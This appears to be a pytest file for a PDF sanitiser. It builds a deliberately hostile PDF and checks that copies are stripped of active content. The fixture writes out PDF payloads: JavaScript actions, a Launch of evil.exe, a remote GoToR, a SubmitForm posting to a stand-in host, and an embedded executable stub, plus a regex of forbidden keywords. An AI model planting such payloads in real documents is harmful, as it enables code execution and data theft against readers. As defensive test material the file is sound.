"""Copies are opened in other readers, which may obey what a hostile paper tells them."""

import re

import pymupdf
import pytest

from tests.ui.render.noted import copied, every_kind
from ui.render.copies import harmless
from ui.render.copies.maker import CopyOrder, PaperToCopy, make_copy
from ui.render.copies.messages import Made, PageOut
from ui.render.mupdf_stream import mupdf
from ui.render.source import BytesSource

SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = "<</S/Launch/F(evil.exe)>>"
REMOTE = "<</S/GoToR/F(//evil/share/x.pdf)/D[0/Fit]>>"
SEND = "<</S/SubmitForm/F(http://evil.example/)>>"
ADDRESS = "<</S/URI/URI(https://example.org/)>>"
PLACE = "/Rect[0 0 50 50]"
ANNOTATIONS = (
    f"<</Type/Annot/Subtype/Link{PLACE}/A{LAUNCH}>>",
    f"<</Type/Annot/Subtype/Link{PLACE}/A{REMOTE}/PA{SCRIPT}>>",
    f"<</Type/Annot/Subtype/Link{PLACE}/A<</S/URI/URI(javascript:1)>>>>",
    f"<</Type/Annot/Subtype/Link{PLACE}/A{ADDRESS[:-2]}/Next{SCRIPT}>>>>",
    f"<</Type/Annot/Subtype/Screen{PLACE}/A{SCRIPT}/AA<</PV{LAUNCH}>>>>",
    f"<</Type/Annot/Subtype/FileAttachment{PLACE}/FS<</Type/Filespec/F(evil2.exe)>>>>",
    f"<</Type/Annot/Subtype/Square{PLACE}/AA<</E{SEND}>>>>",
)
FORBIDDEN = "JavaScript|Launch|GoToR|SubmitForm|evil|/AA|EmbeddedFile|XFA|javascript:"


def hostile() -> bytes:
    document = pymupdf.open()
    for number in range(2):
        document.new_page(width=400, height=400).insert_text((40, 60), f"Page {number}")
    document.embfile_add("evil.exe", b"MZ")
    page, catalog = document[0], document.pdf_catalog()

    def add(text: str) -> int:
        number = document.get_new_xref()
        document.update_object(number, text)
        return number

    kid = add(f"<</Type/Annot/Subtype/Widget/FT/Tx/T(x){PLACE}/AA<</K{SCRIPT}>>/A{SEND}>>")
    field = add(f"<</FT/Tx/T(y)/Kids[{kid} 0 R]/AA<</C{SCRIPT}>>>>")
    shown = [*(add(one) for one in ANNOTATIONS), kid]
    line, below = add("<<>>"), add(f"<</Title(z)/A{LAUNCH}>>")
    document.update_object(line, f"<</Title(x)/First {below} 0 R/A{SCRIPT}>>")
    outlines = add(f"<</Type/Outlines/Count 1/First {line} 0 R/Last {line} 0 R>>")
    for at, key, value in (
        (page.xref, "Annots", f"[{' '.join(f'{one} 0 R' for one in shown)}]"),
        (page.xref, "AA", f"<</O{SCRIPT}>>"),
        (catalog, "OpenAction", SCRIPT),
        (catalog, "AA", f"<</WC{SCRIPT}>>"),
        (catalog, "AcroForm", f"<</Fields[{field} 0 R]/XFA(<x/>)>>"),
        (catalog, "Names/JavaScript", f"<</Names[(a){SCRIPT}]>>"),
        (catalog, "Outlines", f"{outlines} 0 R"),
    ):
        document.xref_set_key(at, key, value)
    return document.tobytes()


def found_in(data: bytes) -> set[str]:
    with pymupdf.open(stream=data) as document:
        objects = [document.xref_object(one) for one in range(1, document.xref_length())]
    return set(re.findall(FORBIDDEN, "\n".join(objects)))


def test_attack_copy_with_scripts_and_programs_of_a_hostile_paper() -> None:
    assert found_in(hostile()) == {one.removeprefix("(") for one in FORBIDDEN.split("|")}
    copy = copied(hostile(), every_kind())
    assert found_in(copy) == set()
    with pymupdf.open(stream=copy) as document:
        assert [one.get("uri") for one in document[0].get_links()] == ["https://example.org/"]
        assert len(list(document[0].widgets())) == 1


def test_attack_book_with_scripts_and_programs_of_a_hostile_paper() -> None:
    papers = [PaperToCopy(BytesSource(hostile()), every_kind())] * 2
    book = bytearray()
    pages = [PageOut(0, 0), PageOut(0, 1), PageOut(1, 0)]
    assert isinstance(make_copy(CopyOrder(papers=papers, pages=pages), book.extend), Made)
    assert found_in(bytes(book)) == set()


def test_attack_more_fields_and_lines_than_are_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(harmless, "_MOST", 1)
    with pymupdf.open(stream=hostile()) as document:
        pdf = pymupdf._as_pdf_document(document)
        harmless.make_harmless(pdf, 2)
        catalog = mupdf.pdf_dict_gets(mupdf.pdf_trailer(pdf), "Root")
        for key in ("AcroForm", "Outlines"):
            assert not mupdf.pdf_dict_gets(catalog, key).m_internal
        assert len(document[0].get_links()) == 0
